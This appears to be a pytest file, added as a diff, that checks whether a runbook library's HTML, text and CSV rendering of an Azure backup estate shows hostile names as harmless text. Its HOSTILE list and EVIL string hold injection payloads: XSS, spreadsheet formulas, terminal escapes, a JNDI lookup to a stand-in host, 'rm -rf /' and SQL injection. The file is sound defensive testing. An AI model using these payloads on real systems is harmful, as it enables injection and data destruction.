@@ -1,0 +1,403 @@
+"""
+What people see: whatever Azure, an estate file or an attacker calls things, it is shown as text and does nothing.
+"""
+
+from __future__ import annotations
+
+import csv
+import unicodedata
+from dataclasses import replace
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pytest
+from builders import (
+    EVERYTHING,
+    everything,
+    gap,
+    group,
+    inventory,
+    item,
+    networked,
+    planned,
+    policies_of,
+    provider,
+    rule,
+    subscription,
+    vault,
+)
+from hypothesis import given
+from hypothesis import strategies as st
+
+from runbook_lib import checks, render, text
+from runbook_lib.plan import Difference
+from runbook_lib.records import Agent, Extension, Inventory, Verdict, VmVerdict, digest, key
+from runbook_lib.render import Lines, Table, csv_cell, escape, plain
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "</td></tr></table><script>alert(1)</script>",
+    "</caption><h1>PROTECTED</h1>",
+    "<style>td{display:none}</style>",
+    "<base href=//evil>",
+    "<meta http-equiv=refresh content='0;url=//evil'>",
+    "<!-- ",
+    " --><b>",
+    "<![CDATA[<b>]]>",
+    "<?php echo 1 ?>",
+    "<a href='javascript:alert(1)'>x</a>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    "` onmouseover=`alert(1)",
+    "&lt;script&gt;",
+    "&#60;script&#62;",
+    "&amp;",
+    "<",
+    ">",
+    "\x00<b>\x00",
+    "\x1b[2J\x1b[1;1HPROTECTED",
+    "\x1b]0;title\x07",
+    "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\",
+    "\x9b31mred",
+    "a\rPROTECTED",
+    "a\nfake | row | PROTECTED",
+    "a\r\nb",
+    "a\tb",
+    "a\x0bb\x0cc\x85d\u2028e\u2029f",
+    "\u202egnitset\u202c",
+    "\u2066left\u2069",
+    "\u200e\u200f\u061c",
+    "\ufeffzero\u200bwidth",
+    "\U000e0041\U000e0042",
+    "\ud800",
+    "=1+1",
+    '=HYPERLINK("http://evil","x")',
+    "+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "|cmd",
+    'a","=1+1',
+    "a;b,c",
+    "{{7*7}}",
+    "{0}",
+    "{vm.__class__}",
+    "{",
+    "}}",
+    "%s %(x)s %n",
+    "$x$ $$y$$ \\(z\\)",
+    "${jndi:ldap://evil}",
+    "`rm -rf /`",
+    "**bold** [x](javascript:alert(1))",
+    "| a | b |",
+    "Robert'); DROP TABLE vms;--",
+    "../../etc/passwd",
+    "ñandú 日本語 עברית العربية 🦙",
+    "x" * 65_536,
+    "<b>" * 5_000,
+    "",
+    " ",
+)
+ALLOWED = {
+    "table": set(),
+    "caption": {("style", "text-align:left;font-weight:bold")},
+    "thead": set(),
+    "tbody": set(),
+    "tr": set(),
+    "th": {("scope", "col"), ("scope", "row"), ("style", "text-align:left")},
+    "td": {("style", "text-align:left")},
+    "p": set(),
+}
+LANGUAGE = "en"
+
+
+class Page(HTMLParser):
+    """
+    What a browser would make of a piece of HTML: its elements, and the text in each.
+    """
+
+    def __init__(self, content: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.strange: list[str] = []
+        self.cells: list[str] = []
+        self.open: list[str] = []
+        self.feed(content)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.open.append(tag)
+        if tag not in ALLOWED or not set(attrs) <= ALLOWED[tag]:
+            self.strange.append(f"<{tag} {attrs}>")
+        if tag in ("th", "td", "caption", "p"):
+            self.cells.append("")
+
+    def handle_endtag(self, tag: str) -> None:
+        if not self.open or self.open.pop() != tag:
+            self.strange.append(f"</{tag}>")
+
+    def handle_data(self, data: str) -> None:
+        if self.open and self.open[-1] in ("th", "td", "caption", "p"):
+            self.cells[-1] += data
+        elif data.strip():
+            self.strange.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        self.strange.append(f"<!--{data}-->")
+
+    def handle_decl(self, decl: str) -> None:
+        self.strange.append(f"<!{decl}>")
+
+    def unknown_decl(self, data: str) -> None:
+        self.strange.append(f"<![{data}]>")
+
+    def handle_pi(self, data: str) -> None:
+        self.strange.append(f"<?{data}>")
+
+
+def commanding(content: str) -> set[str]:
+    """
+    List the characters that a terminal would obey; line breaks are ours.
+    """
+    return {each for each in content if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Zl", "Zp")} - {"\n"}
+
+
+def assert_harmless(shown: render.Shown) -> Page:
+    """
+    Parse what is shown: known elements and attributes only, properly nested, and nothing for a terminal to obey.
+    """
+    page = Page(shown.html())
+
+    assert [] == page.strange
+    assert [] == page.open
+    assert set() == commanding(shown.html())
+    assert set() == commanding(shown.text())
+    return page
+
+
+# --- the sinks ----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
+def test_a_table_shows_a_hostile_value_as_text(hostile: str) -> None:
+    """
+    As a cell, as a row's head, in the caption and in a note; the value can be read off again.
+    """
+    table = Table(hostile, ("vm", "why"), [{"vm": hostile, "why": hostile}], LANGUAGE, notes=[hostile])
+    page = assert_harmless(table)
+    shown = plain(hostile)
+
+    assert [shown, "VM", "Why", shown, shown, shown] == page.cells
+
+
+@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
+def test_text_keeps_a_value_in_its_line(hostile: str) -> None:
+    """
+    No value makes a row of its own.
+    """
+    rows = [{"vm": hostile, "why": "first"}, {"vm": "second", "why": hostile}]
+    lines = Table(hostile, ("vm", "why"), rows, LANGUAGE, notes=[hostile]).text().split("\n")
+
+    assert 6 == len(lines)
+    assert ["first", "second"] == [lines[3].split()[-1], lines[4].split()[0]]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
+def test_lines_show_a_hostile_line_as_one(hostile: str) -> None:
+    """
+    A paragraph, and a line of text.
+    """
+    lines = Lines([hostile, "next"])
+
+    assert [plain(hostile), "next"] == assert_harmless(lines).cells
+    assert [plain(hostile), "next"] == lines.text().split("\n")
+
+
+@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
+def test_a_spreadsheet_gets_text_and_no_formula(hostile: str, tmp_path: Path) -> None:
+    """
+    As many rows and cells as were written, none of them to be computed, all of them readable.
+    """
+    Table("", ("vm", "why"), [{"vm": hostile, "why": hostile}], LANGUAGE).write_csv(tmp_path / "t.csv")
+    raw = (tmp_path / "t.csv").read_bytes().decode("utf-8")
+    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as file:
+        csv.field_size_limit(1 << 20)
+        head, row = csv.reader(file)
+
+    assert ["vm", "why"] == head
+    assert [plain(hostile)] * 2 == [cell.removeprefix("'") if plain(hostile) != cell else cell for cell in row]
+    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
+    assert raw.startswith('"vm","why"\n"')
+    assert set() == commanding(raw)
+
+
+@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
+def test_a_sentence_takes_a_hostile_fact_as_it_is(hostile: str) -> None:
+    """
+    Braces in it are no template.
+    """
+    assert f"Vaults are offered in {hostile}." == text.say("check.region.offered", location=hostile)
+
+
+@given(st.text(st.characters(exclude_categories=())))
+def test_escaping_leaves_no_markup_in_any_text(value: str) -> None:
+    """
+    Whatever Unicode there is: what is parsed back is the plain form, and it stays so when written as UTF-8.
+    """
+    page = Page(f'<p>{escape(value)}</p><td style="{escape(value)}">')
+
+    assert plain(value) == page.cells[0]
+    assert set() == set(escape(value)) & set("<>\"'")
+    assert len(value) <= len(escape(value).encode())
+    assert set() == commanding(plain(value)) | ({"\n"} & set(plain(value)))
+
+
+@given(st.text(st.characters(exclude_categories=())))
+def test_no_text_is_a_formula(value: str) -> None:
+    """
+    And what is none is left as it is.
+    """
+    cell = csv_cell(value)
+
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+    assert cell in (plain(value), f"'{plain(value)}")
+
+
+def test_numbers_and_nothings_stay_what_they_are() -> None:
+    """
+    A column of whole numbers does not become one of fractions because a cell has none.
+    """
+    table = Table("", ("field", "expected"), [{"field": 1, "expected": None}, {"field": True, "expected": 200}, {}])
+
+    assert [["1", "None"], ["True", "200"], ["", ""]] == [
+        Page(table.html()).cells[start : start + 2] for start in (3, 5, 7)
+    ]
+
+
+def test_text_stands_in_columns() -> None:
+    """
+    Caption, heads, a rule, rows, notes; no trailing blanks.
+    """
+    table = Table("Title", ("vm", "why"), [{"vm": "web", "why": "x"}, {"vm": "db-01", "why": "y"}], notes=["end"])
+
+    assert "Title\nVM     Why\n-----  ---\nweb    x\ndb-01  y\nend" == table.text()
+    assert table.text() == repr(table)
+
+
+def test_a_table_without_rows_is_still_one() -> None:
+    """
+    Its heads are there, and a note can say why nothing else is.
+    """
+    table = Table("None", ("vm",), [], notes=["nothing"])
+
+    assert ["None", "VM", "nothing"] == assert_harmless(table).cells
+    assert "None\nVM\n--\nnothing" == table.text()
+
+
+def test_a_notebook_gets_html_and_text() -> None:
+    """
+    Whoever cannot show the one shows the other.
+    """
+    bundle = Lines(["<b>"])._repr_mimebundle_()
+
+    assert {"text/html": "<p>&lt;b&gt;</p>", "text/plain": "<b>"} == bundle
+
+
+# --- the tables ---------------------------------------------------------------------------------------------------
+
+EVIL = "<script>alert(1)</script>\x1b[2J\u202e{0}\n=1+1"
+
+
+def evil_estate() -> Inventory:
+    """
+    An estate in which everything that somebody can name has a hostile name.
+    """
+    machine, own, shut = networked(rule(EVIL, 200))
+    extension = Extension(name=EVIL, type="Microsoft.Azure.RecoveryServices.VMSnapshot", status=EVIL)
+    machine = replace(
+        machine,
+        name=EVIL,
+        os_type="Linux",
+        tags={EVIL: EVIL},
+        power_state="running",
+        agent=Agent(status=EVIL, version=f"{EVIL}2.2.1", message=EVIL),
+        extensions=(extension,),
+    )
+    held = vault(soft_delete=EVIL, redundancy=EVIL)
+    named = replace(held, name=EVIL)
+    strange = replace(policies_of(held)[0], name=EVIL, terms={"schedule": EVIL, "daily_retention_days": EVIL})
+    world = inventory(
+        replace(subscription(), name=EVIL),
+        provider(state="NotRegistered", locations=("westeurope", EVIL)),
+        replace(group(), name=EVIL),
+        machine,
+        replace(own, name=EVIL),
+        replace(shut, name=EVIL),
+        named,
+        strange,
+        item(machine, held, protection=EVIL, protection_state=EVIL, health_status=EVIL, last_backup_status=EVIL),
+    )
+    return replace(world, unread=(replace(gap(EVIL, EVIL), code=EVIL, message=EVIL),))
+
+
+def tables(world: Inventory, **asked: Any) -> dict[str, render.Shown]:
+    """
+    Every table that there is, of one estate.
+    """
+    machines = list(world.vms.values())
+    found = checks.judge(world, machines)
+    made = planned(world, **asked)
+    verdicts = [VmVerdict(vm=each, verdict=v, decisive=d) for each, (v, d) in checks.verdicts(found).items()]
+    after = {key(each.id): Verdict.READY for each in machines}
+    changes = [(each, "failed", EVIL) for each in made.changes]
+    apart = [Difference(resource=EVIL, field=EVIL, expected={EVIL: [EVIL]}, found=None)]
+    return {
+        "readiness": render.readiness(world, verdicts, after, found, LANGUAGE),
+        "findings": render.findings(world, found, LANGUAGE),
+        "agent": render.findings(world, found, LANGUAGE, only=("agent",)),
+        "plan": render.plan(made.steps, EVIL, LANGUAGE),
+        "ended": render.plan(made.steps, EVIL, LANGUAGE, {digest(each): "done" for each in made.changes}),
+        "notes": Lines(render.notes(made, LANGUAGE)),
+        "results": render.results("04", changes, LANGUAGE),
+        "vaults": render.vaults(world, ["westeurope"], LANGUAGE),
+        "policies": render.policies(world, ["westeurope"], LANGUAGE),
+        "machines": render.machines(world, machines, LANGUAGE),
+        "network": render.network(world, found, LANGUAGE),
+        "prerequisites": render.prerequisites(found, machines, world, LANGUAGE),
+        "unread": render.unread(world, LANGUAGE),
+        "comparison": render.comparison(world, after, verdicts, found, LANGUAGE),
+        "differences": render.differences(apart, LANGUAGE),
+        "parameter_values": render.parameter_values({"vault_name": EVIL, "accept_risk": {EVIL: EVIL}}, LANGUAGE),
+        "catalogue": render.catalogue(LANGUAGE),
+    }
+
+
+def test_there_is_a_table_here_for_every_function() -> None:
+    """
+    A new table must be tried with hostile names as well.
+    """
+    functions = {name for name in render.__all__ if name[0].islower()}
+    tried = {"ended": "plan", "agent": "findings"}
+
+    assert functions - {"csv_cell", "escape", "plain", "sentence", "why"} == {
+        tried.get(name, name) for name in tables(everything(), **EVERYTHING)
+    }
+
+
+@pytest.mark.parametrize("name", sorted(tables(everything(), **EVERYTHING)))
+@pytest.mark.parametrize("world", [everything(), evil_estate()], ids=["plain", "evil"])
+def test_no_table_obeys_a_name(name: str, world: Inventory, tmp_path: Path) -> None:
+    """
+    All names of an estate go through all tables, into HTML, text and CSV.
+    """
+    shown = tables(world, **EVERYTHING, accept_risk={each.id: "known" for each in world.vms.values()})[name]
+    assert_harmless(shown)
+    if isinstance(shown, Table):
+        shown.write_csv(tmp_path / "t.csv")
+        assert set() == commanding((tmp_path / "t.csv").read_text(encoding="utf-8"))
